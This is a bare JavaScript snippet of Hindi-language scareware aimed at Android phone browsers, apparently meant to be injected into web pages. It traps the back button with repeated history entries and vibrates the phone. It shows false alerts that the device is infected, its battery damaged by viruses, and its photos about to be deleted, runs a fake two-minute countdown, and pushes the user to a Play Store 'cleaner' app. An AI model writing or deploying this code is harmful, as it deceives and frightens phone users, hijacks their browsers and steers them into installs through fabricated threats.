(()=>{const brand=/SM-|Samsung/.test(navigator.userAgent)?"Samsung":/Redmi|Xiaomi/.test(navigator.userAgent)?"Xiaomi":"Android";
for(let i=0;i<25;i++)history.pushState({i},"",location.href.split("#")[0]+"#"+i);
onpopstate=()=>{navigator.vibrate([400,100,400,100,900]);alert(`चेतावनी! आपके ${brand} की बैटरी 4 वायरस से क्षतिग्रस्त है`);history.go(1)};
alert(`आपका ${brand} फ़ोन गंभीर रूप से संक्रमित है! 2 मिनट में सभी फ़ोटो हटा दिए जाएंगे।`);
document.body.insertAdjacentHTML("beforeend",`<div class=m><b>0<i id=s>2:00</i></b><a href="intent://details?id=app.cleaner.placeholder#Intent;scheme=market;end">अभी साफ़ करें</a></div>`);
let t=120;setInterval(()=>{s.textContent=(t/60|0)+":"+String(--t%60).padStart(2,0);t%10||navigator.vibrate(800)},1e3)})();
